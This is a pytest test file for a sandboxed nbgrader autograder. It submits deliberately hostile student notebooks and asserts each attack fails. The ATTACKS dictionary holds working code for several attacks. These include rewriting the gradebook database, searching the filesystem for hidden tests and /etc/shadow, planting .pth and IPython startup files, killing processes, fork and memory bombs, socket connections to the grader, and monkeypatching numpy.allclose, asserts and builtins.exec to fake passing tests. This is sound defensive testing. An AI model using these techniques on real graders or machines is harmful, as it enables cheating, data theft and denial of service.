"""Hostile submissions: one test per attack on the grader (COURSE.md rule 7, "student code is untrusted").

The attacks are handed in together as one class of the tiny assignment and graded sandboxed,
twice: two at a time and one at a time (module fixture `hostile`: every test checks both runs),
with honest students graded before and after them (in name order: a_* first, z_* last). Each test asserts that its attack
failed, and most also that the honest students kept their true scores. The attack code aims only
at this module's temporary course, grader HOME and a uniquely named .pth file; what could hurt
the test machine if a defence were missing is bounded (400 forks, 4.5 GiB of memory, a guarded
kill(-1)), so the file can also be run with SANDBOX = False to see the attacks succeed.
"""
from __future__ import annotations

import hashlib
import os
import shutil
import socket
import sysconfig
import textwrap
import time
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pytest

from course import grade, sandbox
from course.build import generate_release, normalise_release, write_source
from course.common import ROOT

from .conftest import FIXTURES, SOLVED, TINY, processes_in, release_nb, submit, with_cell

SANDBOX = True
CELL_TIMEOUT = 5             # seconds per cell in the hostile course (the loop attacks)...
SLOW_CELL = "# slow attack"  # ...but 40 s for cells marked so (touching 4.5 GiB may take 15 s here)
WRONG = "def add(a, b):\n    return 3\n"  # passes the visible test only: 1 point
ZERO = "def add(a, b):\n    return 0\n"   # fails both tests: 0 points
HONEST = {"a_honest": 2.0, "z_honest": 2.0, "z_wrong": 1.0}
SECRET = "add must add " + "arrays elementwise"  # the hidden test's message (never whole in a cell)

# Each attack is the top of the student's solution cell; `add` follows. The cell also gets a
# header defining COURSE, HOME (the grader's), ROOT (the repository), PTH, PORT and HOSTS.
ATTACKS = {
    "b_gradebook": ('''
        import os, sqlite3, time
        def _rewrite(path):
            db = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1)
            db.execute("UPDATE grade SET auto_score = 0, manual_score = 0, extra_credit = 0")
            db.execute("UPDATE grade SET manual_score = 100 WHERE notebook_id IN (SELECT sn.id FROM "
                       "submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id "
                       "WHERE sa.student_id = 'b_gradebook')")
            db.commit()
            db.close()
        _paths = ["../../../gradebook.db", COURSE + "/gradebook.db"]
        for _p in _paths:
            try:
                _rewrite(_p)
                print("REWROTE", _p)
            except Exception as e:
                print("cannot rewrite", _p, type(e).__name__)
        _pid = os.fork()  # a daemon that keeps rewriting while later students are graded (60 s)
        if _pid == 0:
            os.setsid()
            if os.fork() == 0:
                for _ in range(300):
                    for _p in _paths:
                        try:
                            _rewrite(_p)
                        except Exception:
                            pass
                    time.sleep(0.2)
            os._exit(0)
        os.waitpid(_pid, 0)
        # and make nbgrader write the graded notebook into the gradebook
        try:
            os.remove("tiny.ipynb")
        except OSError as e:
            print("cannot remove the notebook:", type(e).__name__)
        os.symlink("../../../gradebook.db", "tiny.ipynb")
        ''', WRONG),
    "c_reader": ('''
        import os
        _secret = "add must add " + "arrays elementwise"
        for _p in ["../../../source/tiny/tiny.ipynb", COURSE + "/source/tiny/tiny.ipynb",
                   "../../../gradebook.db", COURSE + "/gradebook.db",
                   "../../a_honest/tiny/tiny.ipynb", COURSE + "/autograded/a_honest/tiny/tiny.ipynb",
                   COURSE + "/submitted/z_honest/tiny/tiny.ipynb", COURSE + "/.staged/z_honest/tiny/tiny.ipynb",
                   HOME + "/secret.txt", ROOT + "/lessons", ROOT + "/source", ROOT + "/course",
                   "/root/.bashrc", "/etc/shadow"]:
            if os.path.exists(_p):
                print("VISIBLE", _p)
        for _top in [".", "../..", "../../..", COURSE, HOME]:
            for _dir, _dirs, _files in os.walk(_top):
                for _f in _files:
                    try:
                        with open(os.path.join(_dir, _f), errors="ignore") as _fh:
                            if _secret in _fh.read(10_000_000):
                                print("LEAK", os.path.join(_dir, _f))
                    except OSError:
                        pass
        for _p in ["answers.txt", "abs_answers.txt"]:  # handed in as symlinks to source/
            try:
                if _secret in open(_p, errors="ignore").read():
                    print("LINK LEAK", _p)
            except OSError as e:
                print("cannot read", _p, type(e).__name__)
        import socket
        for _h in HOSTS:  # the grader listens there
            try:
                socket.create_connection((_h, PORT), timeout=3).sendall(b"c_reader was here")
                print("CONNECTED", _h)
            except OSError as e:
                print("no connection to", _h, type(e).__name__)
        ''', WRONG),
    "d_planter": ('''
        import os
        _payload = "import numpy\\nnumpy.allclose = lambda *a, **k: True\\n"
        for _t in [HOME + "/.ipython/profile_default/startup/00-hostile.py",
                   os.path.expanduser("~/.ipython/profile_default/startup/00-hostile.py")]:
            try:
                os.makedirs(os.path.dirname(_t), exist_ok=True)
                with open(_t, "w") as _f:
                    _f.write(_payload)
                print("PLANTED", _t)
            except OSError as e:
                print("cannot plant", _t, type(e).__name__)
        # a .pth file in the grading environment runs at every interpreter start (this one only
        # in kernels of this test course), and the course's nbgrader_config.py in every grader
        _gate = "import os; exec(%r) if os.getcwd().startswith(%r) and '/autograded/' in os.getcwd() else None\\n"
        for _t, _text in [(PTH, _gate % (_payload, COURSE)),
                          ("../../../nbgrader_config.py", "\\nc.Execute.timeout = 1\\n"),
                          (COURSE + "/nbgrader_config.py", "\\nc.Execute.timeout = 1\\n")]:
            try:
                with open(_t, "a") as _f:
                    _f.write(_text)
                print("PLANTED", _t)
            except OSError as e:
                print("cannot plant", _t, type(e).__name__)
        ''', WRONG),
    "e_killer_parent": ('''
        import os, signal
        try:
            os.kill(os.getppid(), signal.SIGKILL)
        except OSError as e:
            print("cannot kill the parent:", type(e).__name__)
        ''', SOLVED),
    "e_killer_group": ('''
        import os, signal
        try:  # kill(-1) only inside the sandbox (pid 1 is bubblewrap there): outside it, as root,
              # it would kill every process of the test machine
            if open("/proc/1/comm").read().strip() == "bwrap":
                os.kill(-1, signal.SIGKILL)
        except OSError as e:
            print("kill(-1):", type(e).__name__)
        try:
            os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)  # the parent's group
        except OSError as e:
            print("cannot kill the parent's group:", type(e).__name__)
        os.killpg(0, signal.SIGKILL)  # its own group
        ''', SOLVED),
    "f_exit": ("import os\nos._exit(1)\n", SOLVED),
    "f_segv": ("import ctypes\nctypes.string_at(0)\n", SOLVED),
    "g_loop": ("while True:\n    pass\n", SOLVED),
    "g_stubborn": ("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n", SOLVED),
    "h_memory": ('''
        # slow attack
        for _gib in (50, 8):
            try:
                _x = bytearray(_gib * 2**30)  # address space; the pages stay untouched
                print("ALLOCATED", _gib, "GiB at once")
                del _x
            except MemoryError:
                print("MemoryError for", _gib, "GiB at once")
        import os, select, signal, time
        _r, _w = os.pipe()
        _kids = []
        for _ in range(3):  # 3 processes x 1.5 GiB, each under the per-process address-space limit
            _pid = os.fork()
            if _pid == 0:
                try:
                    _x = b"x" * (1536 * 2**20)  # every page touched
                    os.write(_w, b"%d " % os.getpid())
                    time.sleep(20)
                finally:
                    os._exit(0)
            _kids.append(_pid)
        os.close(_w)
        _done, _dead, _end = set(), set(), time.monotonic() + 30
        while len(_done | _dead) < 3 and time.monotonic() < _end:
            if select.select([_r], [], [], 0.1)[0]:
                _done |= {int(p) for p in os.read(_r, 4096).split()}
            _dead |= {p for p in _kids if p not in _dead and os.waitpid(p, os.WNOHANG) != (0, 0)}
        print("HELD", len(_done - _dead), "x 1.5 GiB at once")
        for _p in set(_kids) - _dead:
            os.kill(_p, signal.SIGKILL)
            os.waitpid(_p, 0)
        ''', WRONG),
    "h_forkbomb": ('''
        import os, time
        _n = 0
        try:
            for _ in range(400):  # bounded, so the test machine survives a missing limit
                if os.fork() == 0:
                    time.sleep(20)
                    os._exit(0)
                _n += 1
        except OSError as e:
            print("fork failed:", type(e).__name__)
        print("FORKED", _n)
        ''', WRONG),
    "j_allclose": ("import numpy\nnumpy.allclose = lambda *a, **k: True\n", WRONG),
    "j_ast": ('''
        import ast
        class _NoAssert(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.Pass()
        get_ipython().ast_transformers.append(_NoAssert())
        ''', WRONG),
    "j_input": ('''
        def _no_assert(lines):
            return [l[:len(l) - len(l.lstrip())] + "pass\\n" if l.lstrip().startswith("assert") else l
                    for l in lines]
        get_ipython().input_transformers_post.append(_no_assert)
        ''', WRONG),
    "j_builtins": ('''
        import builtins
        _exec = builtins.exec
        def _quiet_exec(code, *args, **kwargs):  # IPython runs every cell with the builtin exec
            try:
                _exec(code, *args, **kwargs)
            except Exception:
                pass
        builtins.exec = _quiet_exec
        ''', WRONG),
    "j_eq": ('''
        class _Liar:
            def __eq__(self, other): return True
            def __le__(self, other): return True
            __ge__ = __lt__ = __gt__ = __le__
            def __sub__(self, other): return self
            __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __sub__
            def __abs__(self): return self
        ''', "def add(a, b):\n    return _Liar()\n"),
    "o_output": ('''
        # slow attack
        import os, sys
        print("x" * 200_000_000)
        for _fd in (1, 2):  # to the kernel's own stdout/stderr, past IPython's capture of fds 1, 2
            _fd = getattr((sys.stdout, sys.stderr)[_fd - 1], "_original_stdstream_copy", None) or _fd
            for _ in range(4):
                os.write(_fd, b"y" * 2**27)
        _mb = 0
        try:
            with open("big.bin", "wb") as _f:
                for _ in range(12):  # 12 x 64 MiB
                    _f.write(b"z" * 2**26)
                    _f.flush()
                    _mb += 64
        except OSError as e:
            print("write failed:", type(e).__name__)
        print("WROTE", _mb, "MiB")
        ''', WRONG),
}


@dataclass
class Graded:
    course: Path
    home: Path
    tmpdir: Path          # TMPDIR of the workers: their run folders
    outcomes: dict        # student -> Outcome
    gradebook: dict       # student -> score in the gradebook once the whole class is graded
    worker_stderr: dict   # student -> characters its worker wrote on stderr
    protected: dict       # course file -> sha256 before grading
    listener: socket.socket
    pth: Path
    cgroups_before: set


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _cgroups() -> set:
    """The kernel cgroups of this test process's grading (other graders on the machine have their own)."""
    parents = [sandbox.cgroup_parent(c) for c in sandbox.CGROUP_LIMITS]
    return {p for parent in parents if parent for p in parent.glob(f"course-kernel-{os.getpid()}-*")}


def _host_ips() -> list[str]:
    ips = ["127.0.0.1"]
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.connect(("192.0.2.1", 9))  # sends nothing: only picks the outgoing interface
            if not s.getsockname()[0].startswith("127."):
                ips.append(s.getsockname()[0])
    except OSError:
        pass
    return ips


def gradebook_scores(course: Path) -> dict:
    from nbgrader.api import Gradebook, MissingEntry
    out = {}
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        for student in gb.students:
            try:
                out[student.id] = gb.find_submission_notebook(TINY, TINY, student.id).score
            except MissingEntry:
                pass
    return out


@pytest.fixture(scope="module", params=[2, 1], ids=["jobs2", "serial"])
def hostile(tmp_path_factory, request):
    """The tiny assignment (5 s per cell), every attack and the honest students, graded with
    --jobs 2 and, separately, serially (issue: "run the suite both serially and with --jobs 2")."""
    assert shutil.which("bwrap"), "bubblewrap is required to grade (apt-get install bubblewrap)"
    course = tmp_path_factory.mktemp("hostile-course")
    home = tmp_path_factory.mktemp("grader-home")
    tmpdir = tmp_path_factory.mktemp("grader-tmp")
    (home / "secret.txt").write_text(SECRET)
    shutil.copy(ROOT / "nbgrader_config.py", course)
    with open(course / "nbgrader_config.py", "a") as f:
        f.write(f"\nc.Execute.timeout = {CELL_TIMEOUT}\n"
                f"c.Execute.timeout_func = lambda cell: 40 if {SLOW_CELL!r} in cell.source else {CELL_TIMEOUT}\n")
    write_source(TINY, course, FIXTURES / "tiny.py")
    normalise_release(generate_release(course, TINY))
    pth = Path(os.path.realpath(sysconfig.get_paths()["purelib"])) / f"zz_hostile_{os.getpid()}_{course.name}.pth"
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("0.0.0.0", 0))
    listener.listen(8)
    listener.setblocking(False)
    header = (f"COURSE = {str(course)!r}\nHOME = {str(home)!r}\nROOT = {str(ROOT)!r}\n"
              f"PTH = {str(pth)!r}\nPORT = {listener.getsockname()[1]}\nHOSTS = {_host_ips()!r}\n")
    release = release_nb(course)
    for student, score in HONEST.items():
        submit(course, student, with_cell(release, "add", SOLVED if score == 2.0 else WRONG))
    for student, (attack, add) in ATTACKS.items():
        submit(course, student, with_cell(release, "add", header + textwrap.dedent(attack) + "\n" + add))
    _hand_in_metadata_attacks(course, release)
    _hand_in_late_crash(course, release)
    _hand_in_symlinks(course)
    _hand_in_shadow_module(course, release)
    protected = {p: _sha(p) for p in [course / "nbgrader_config.py", *sorted((course / "source").rglob("*")),
                                      *sorted((course / "release").rglob("*"))] if p.is_file()}
    cgroups_before = _cgroups()
    stderr = {}
    real_run_worker = grade.run_worker

    def run_worker(course, job, assignment, student, *args):
        result, err = real_run_worker(course, job, assignment, student, *args)
        stderr[student] = len(err or "")
        return result, err

    try:
        with pytest.MonkeyPatch.context() as mp:
            mp.setenv("HOME", str(home))      # unsandboxed kernels would inherit this, not /root
            mp.setenv("TMPDIR", str(tmpdir))  # where the workers make their run folders
            mp.setattr(grade, "run_worker", run_worker)
            outcomes = grade.grade_class(course, [TINY], jobs=request.param, sandbox=SANDBOX, log=lambda *a: None)
        yield Graded(course, home, tmpdir, {o.student: o for o in outcomes}, gradebook_scores(course),
                     stderr, protected, listener, pth, cgroups_before)
    finally:
        listener.close()
        pth.unlink(missing_ok=True)


def _cells(nb, *gids):
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") in gids]


def _hand_in_metadata_attacks(course: Path, release) -> None:
    nb = with_cell(release, "add", ZERO)
    _cells(nb, "test_add_small")[0].source = "pass"                      # a locked test edited
    arrays = _cells(nb, "test_add_arrays")[0]                            # a test made the student's
    arrays.metadata.nbgrader.update(grade=False, locked=False, solution=True, points=0)
    arrays.source = "pass"
    _cells(nb, "setup")[0].source = "import numpy as np\nnp.allclose = lambda *a, **k: True"
    tripwire = _cells(nb, "integrity_check")[0]                          # the tripwire made inert
    tripwire.cell_type, tripwire.source = "raw", "pass"
    del tripwire["outputs"], tripwire["execution_count"]
    submit(course, "k_edited", nb)

    nb = with_cell(release, "add", ZERO)
    nb.cells = [c for c in nb.cells if c not in _cells(nb, "setup", "test_add_small", "test_add_arrays",
                                                       "integrity_check")]
    submit(course, "k_deleted", nb)


def _hand_in_late_crash(course: Path, release) -> None:
    """A correct `add`, then a cell of the student's own between the two tests that ends the kernel."""
    nb = with_cell(release, "add", SOLVED)
    at = nb.cells.index(_cells(nb, "test_add_small")[0]) + 1
    nb.cells.insert(at, nbformat.v4.new_code_cell("import os\nos._exit(1)"))
    submit(course, "f_exit_late", nb)


def _hand_in_symlinks(course: Path) -> None:
    folder = course / "submitted" / "c_reader" / TINY
    (folder / "answers.txt").symlink_to(Path("../../../source") / TINY / f"{TINY}.ipynb")
    (folder / "abs_answers.txt").symlink_to(course / "source" / TINY / f"{TINY}.ipynb")
    folder = course / "submitted" / "c_linked_nb" / TINY
    folder.mkdir(parents=True)
    (folder / f"{TINY}.ipynb").symlink_to(Path("../../../source") / TINY / f"{TINY}.ipynb")


# A `numpy.py` handed in beside the notebook: imported instead of NumPy if the kernel put its working
# folder on sys.path, it loads the real NumPy with `allclose` always true.
SHADOW_NUMPY = """\
import importlib, os, sys
here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != here]
del sys.modules["numpy"]
importlib.import_module("numpy").allclose = lambda *a, **k: True
"""


def _hand_in_shadow_module(course: Path, release) -> None:
    submit(course, "m_shadow", with_cell(release, "add", ZERO))
    (course / "submitted" / "m_shadow" / TINY / "numpy.py").write_text(SHADOW_NUMPY)


def printed(h: Graded, student: str) -> str:
    """What the student's solution cell printed or raised during grading ('' if not graded)."""
    path = h.course / "autograded" / student / TINY / f"{TINY}.ipynb"
    if not path.is_file() or path.is_symlink():
        return ""
    out = []
    for cell in _cells(nbformat.read(path, as_version=4), "add"):
        for o in cell.get("outputs", []):
            out.append(o.get("text", "") if o.output_type == "stream" else f"{o.get('ename')}: {o.get('evalue')}")
    return "\n".join(out)


def assert_class_unharmed(h: Graded) -> None:
    """The honest students, graded before and after the attacks, kept their true scores."""
    for student, score in HONEST.items():
        o = h.outcomes[student]
        assert (o.status, o.score, o.notes) == ("ok", score, []), o
        assert h.gradebook[student] == score, (student, h.gradebook)


def assert_graded(h: Graded, student: str, score: float) -> None:
    o = h.outcomes[student]
    assert (o.status, o.score) == ("ok", score), o
    assert h.gradebook[student] == score, (student, h.gradebook[student])


# ---------------------------------------------------------------- the gradebook and the course

def test_submission_cannot_rewrite_the_gradebook(hostile):
    """sqlite3 on ../../../gradebook.db (or its absolute path), once and from a daemon: no effect."""
    out = printed(hostile, "b_gradebook")
    assert "cannot rewrite" in out and "REWROTE" not in out, out
    assert_graded(hostile, "b_gradebook", 1.0)
    assert_class_unharmed(hostile)


def test_submission_cannot_overwrite_the_gradebook_through_a_symlink(hostile):
    """Its notebook replaced by a symlink to the gradebook: nbgrader still writes a plain notebook."""
    graded_nb = hostile.course / "autograded" / "b_gradebook" / TINY / f"{TINY}.ipynb"
    assert graded_nb.is_file() and not graded_nb.is_symlink()
    assert_graded(hostile, "b_gradebook", 1.0)
    assert_class_unharmed(hostile)


def test_submission_cannot_read_solutions_hidden_tests_or_other_students(hostile):
    """source/, gradebook, other students, grader's HOME, repository, own notebook (hidden tests): unreadable."""
    out = printed(hostile, "c_reader")
    assert "VISIBLE" not in out and "\nLEAK" not in "\n" + out, out
    assert_graded(hostile, "c_reader", 1.0)


def test_symlinks_handed_in_do_not_reach_the_course(hostile):
    """A symlink to source/ in the submission folder is not followed when the submission is staged."""
    out = printed(hostile, "c_reader")
    assert "LINK LEAK" not in out and "cannot read answers.txt" in out, out
    assert any("symbolic links" in n and "answers.txt" in n for n in hostile.outcomes["c_reader"].notes)


def test_a_symlinked_notebook_is_not_graded_as_the_solution(hostile):
    """A notebook that is a symlink to the instructor's solution is refused, not given full marks."""
    o = hostile.outcomes["c_linked_nb"]
    assert o.status == "broken" and "symbolic link" in o.notes[0], o
    assert not hostile.gradebook.get("c_linked_nb"), hostile.gradebook


def test_submission_cannot_plant_code_for_later_students(hostile):
    """IPython startup files in HOME, a .pth in the environment, the course config: nothing persists."""
    assert not (hostile.home / ".ipython" / "profile_default" / "startup" / "00-hostile.py").exists()
    assert not hostile.pth.exists()
    for path, digest in hostile.protected.items():
        assert _sha(path) == digest, f"{path} was changed during grading"
    assert_graded(hostile, "d_planter", 1.0)
    assert_class_unharmed(hostile)


# ---------------------------------------------------------------- processes

def test_a_module_handed_in_beside_the_notebook_does_not_shadow_numpy(hostile):
    """A numpy.py in the submission folder is never imported: the wrong answer scores 0, nothing is tampered."""
    assert_graded(hostile, "m_shadow", 0.0)
    assert hostile.outcomes["m_shadow"].notes == [], hostile.outcomes["m_shadow"]


def test_killing_the_parent_process_does_not_stop_grading(hostile):
    """os.kill(os.getppid(), SIGKILL) reaches nothing of the grader: the attacker is graded normally."""
    assert_graded(hostile, "e_killer_parent", 2.0)
    assert_class_unharmed(hostile)


def test_killing_process_groups_only_kills_the_attackers_own_kernel(hostile):
    """kill(-1) and killpg() take down only the attacker's own kernel; the class is graded."""
    o = hostile.outcomes["e_killer_group"]
    assert o.status == "kernel-died" and not o.score, o
    assert_class_unharmed(hostile)


def test_os_exit_is_reported_as_kernel_died_not_as_zero(hostile):
    """os._exit(1) in a cell: the outcome says kernel-died (not an honest 0); the class is graded."""
    o = hostile.outcomes["f_exit"]
    assert o.status == "kernel-died" and "kernel died" in o.notes[0], o
    assert_class_unharmed(hostile)


def test_kernel_death_costs_only_the_cells_from_where_it_died(hostile):
    """os._exit after the first test: that test keeps its point, the later one is lost and says why."""
    o = hostile.outcomes["f_exit_late"]
    assert o.status == "kernel-died" and "earlier cells kept their points" in o.notes[0], o
    assert o.cells["test_add_small"][0] == 1.0 and o.cells["test_add_arrays"][0] == 0.0, o.cells
    assert hostile.gradebook["f_exit_late"] == 1.0, hostile.gradebook
    graded = nbformat.read(hostile.course / "autograded" / "f_exit_late" / TINY / f"{TINY}.ipynb", as_version=4)
    later = _cells(graded, "test_add_arrays")[0].outputs
    assert [x.get("ename") for x in later] == ["NotRun"], later
    assert_class_unharmed(hostile)


def test_segfault_is_reported_as_kernel_died(hostile):
    """A segfault (ctypes.string_at(0)) in a cell: kernel-died; the class is graded."""
    o = hostile.outcomes["f_segv"]
    assert o.status == "kernel-died" and "kernel died" in o.notes[0], o
    assert_class_unharmed(hostile)


def test_infinite_loop_is_stopped_and_reported_as_timeout(hostile):
    """`while True: pass` is interrupted at the per-cell limit, and the outcome says timeout."""
    o = hostile.outcomes["g_loop"]
    assert o.status == "timeout" and any("time limit" in n for n in o.notes), o
    assert o.seconds < 6 * CELL_TIMEOUT, o
    assert_class_unharmed(hostile)


def test_loop_that_ignores_interrupts_is_stopped(hostile):
    """A loop with SIGINT ignored cannot be interrupted; it is still stopped and reported as timeout."""
    o = hostile.outcomes["g_stubborn"]
    assert o.status == "timeout", o
    assert o.seconds < 6 * CELL_TIMEOUT, o
    assert_class_unharmed(hostile)


def test_submission_past_its_time_limit_is_stopped_and_leaves_nothing(hostile, monkeypatch):
    """A kernel still busy at grade's per-submission limit: stopped, reported, its sandbox removed."""
    submit(hostile.course, "zz_sleeper", with_cell(release_nb(hostile.course), "add",
                                                   f"{SLOW_CELL}\nimport time\ntime.sleep(35)\n{WRONG}"))
    monkeypatch.setenv("TMPDIR", str(hostile.tmpdir))
    before = _cgroups()
    o, = grade.grade_class(hostile.course, [TINY], ["zz_sleeper"], sandbox=SANDBOX, timeout=6, log=lambda *a: None)
    assert o.status == "timeout" and "longer than 6 s" in o.notes[0] and o.seconds < 20, o
    assert list(hostile.tmpdir.iterdir()) == []
    assert processes_in(hostile.course / "autograded" / "zz_sleeper") == []
    assert [c for c in _cgroups() - before if not (c / "cgroup.procs").read_text().strip()] == []


def test_memory_bomb_is_contained(hostile):
    """Allocating 50 GiB (or 8 GiB, above the per-process limit) at once raises MemoryError."""
    out = printed(hostile, "h_memory")
    assert "MemoryError for 50 GiB" in out and "MemoryError for 8 GiB" in out, out
    assert hostile.outcomes["h_memory"].status == "ok", hostile.outcomes["h_memory"]
    assert_class_unharmed(hostile)


def test_memory_bomb_spread_over_processes_is_contained(hostile):
    """3 processes x 1.5 GiB touched, each under the per-process limit, cannot hold 4.5 GiB together."""
    out = printed(hostile, "h_memory")
    assert "HELD" in out and int(out.split("HELD")[1].split()[0]) * 1.5 * 2**30 < sandbox.RAM_LIMIT, out
    assert_class_unharmed(hostile)


def test_fork_bomb_is_limited_by_the_pids_cgroup(hostile):
    """os.fork() in a loop stops below the process limit; the class is graded."""
    out = printed(hostile, "h_forkbomb")
    assert "FORKED" in out and int(out.split("FORKED")[1].split()[0]) < sandbox.MAX_PIDS, out
    assert hostile.outcomes["h_forkbomb"].status == "ok"  # its later cells may fail: no threads left
    assert_class_unharmed(hostile)


def test_network_is_unreachable(hostile):
    """Outgoing connections (to the grader's loopback and to the host's address) fail."""
    out = printed(hostile, "c_reader")
    assert "no connection" in out and "CONNECTED" not in out, out
    with pytest.raises(BlockingIOError):
        hostile.listener.accept()


# ---------------------------------------------------------------- in-kernel tricks

def _assert_tampered(h: Graded, student: str) -> None:
    o = h.outcomes[student]
    assert o.status == "tampered" and any("integrity check failed" in n for n in o.notes), o


def test_patched_numpy_allclose_is_flagged_tampered(hostile):
    """numpy.allclose = lambda *a, **k: True wins the hidden test, and is flagged tampered."""
    _assert_tampered(hostile, "j_allclose")


def test_ast_transformer_removing_asserts_is_flagged_tampered(hostile):
    """An AST transformer turning assert into pass is flagged tampered."""
    _assert_tampered(hostile, "j_ast")


def test_input_transformer_rewriting_test_cells_is_flagged_tampered(hostile):
    """get_ipython().input_transformers_post rewriting asserts into pass is flagged tampered."""
    _assert_tampered(hostile, "j_input")


def test_patched_builtin_exec_swallowing_errors_is_flagged_tampered(hostile):
    """builtins.exec replaced by one that swallows every cell's exception is flagged tampered."""
    _assert_tampered(hostile, "j_builtins")


def test_honest_wrong_answers_are_not_flagged(hostile):
    """No false alarm: wrong-but-honest submissions are graded ok, with their partial scores."""
    assert_graded(hostile, "z_wrong", 1.0)
    assert hostile.outcomes["z_wrong"].notes == []


def test_code_scan_puts_every_in_kernel_trick_on_the_review_list(hostile):
    """The code scan flags each tampering trick, the always-equal object included, and no honest student."""
    for student in ("j_allclose", "j_ast", "j_input", "j_builtins", "j_eq", "d_planter", "b_gradebook", "f_segv"):
        assert hostile.outcomes[student].review, (student, hostile.outcomes[student])
    assert any("comparison operators" in r for r in hostile.outcomes["j_eq"].review), hostile.outcomes["j_eq"]
    for student in HONEST:
        assert hostile.outcomes[student].review == [], hostile.outcomes[student]


@pytest.mark.xfail(strict=True, reason="the tripwire cannot see a lying return value: tests must convert "
                                       "the student's results (np.asarray(x, dtype=float), float(x))")
def test_always_equal_object_earns_no_points(hostile):
    """An object whose ==, <=, - and abs always agree passes `==` and np.allclose tests."""
    o = hostile.outcomes["j_eq"]
    assert o.status == "tampered" or o.score == 0.0, o


# ---------------------------------------------------------------- the notebook's structure

def test_edited_locked_cells_are_restored(hostile):
    """A test cell, the setup cell and the tripwire edited to `pass`: graded as released."""
    o = hostile.outcomes["k_edited"]
    assert (o.status, o.score) == ("ok", 0.0), o
    assert o.cells["test_add_small"] == [0.0, 1.0], o.cells


def test_unlocking_or_retyping_cells_does_not_dodge_them(hostile):
    """A test made an ungraded solution cell worth 0 points, the tripwire made a raw cell: restored."""
    o = hostile.outcomes["k_edited"]
    assert o.cells["test_add_arrays"] == [0.0, 1.0] and o.status == "ok", o
    assert any("test_add_arrays': metadata" in n for n in o.notes), o.notes
    assert any("integrity_check': cell type" in n for n in o.notes), o.notes


def test_deleting_every_test_setup_and_tripwire_cell_does_not_dodge_them(hostile):
    """Deleted setup, test and tripwire cells are put back and run (not a grading error)."""
    o = hostile.outcomes["k_deleted"]
    assert (o.status, o.score) == ("ok", 0.0), o
    assert o.cells["test_add_small"] == [0.0, 1.0], o.cells
    assert sum("was deleted" in n for n in o.notes) == 4, o.notes


# ---------------------------------------------------------------- output and files

def test_huge_printed_output_does_not_stop_grading(hostile):
    """Printing 200 MB: the attacker and the class are graded."""
    assert_graded(hostile, "o_output", 1.0)
    assert_class_unharmed(hostile)


def test_flood_on_the_kernels_stdout_stays_out_of_the_grader(hostile):
    """1 GiB written to the kernel's own stdout and stderr does not pile up in the grading process."""
    assert_graded(hostile, "o_output", 1.0)
    assert hostile.worker_stderr["o_output"] < 2 * sandbox.RELAY_BYTES, hostile.worker_stderr
    assert_class_unharmed(hostile)


def test_huge_file_does_not_land_in_the_course(hostile):
    """768 MiB written to the working folder stays out of autograded/ (and is capped)."""
    assert_graded(hostile, "o_output", 1.0)
    folder = hostile.course / "autograded" / "o_output" / TINY
    assert sorted(p.name for p in folder.iterdir()) == [f"{TINY}.ipynb"]
    out = printed(hostile, "o_output")
    assert "WROTE" in out and "WROTE 768 MiB" not in out, out[-200:]
    assert_class_unharmed(hostile)


def test_grading_leaves_no_cgroups_run_folders_or_processes_behind(hostile):
    """Every worker removes its run folder and its cgroups; no kernel or child of one survives."""
    assert list(hostile.tmpdir.iterdir()) == [], list(hostile.tmpdir.iterdir())
    left = [c for c in _cgroups() - hostile.cgroups_before if not (c / "cgroup.procs").read_text().strip()]
    assert left == [], left
    assert processes_in(hostile.course / "autograded") == []
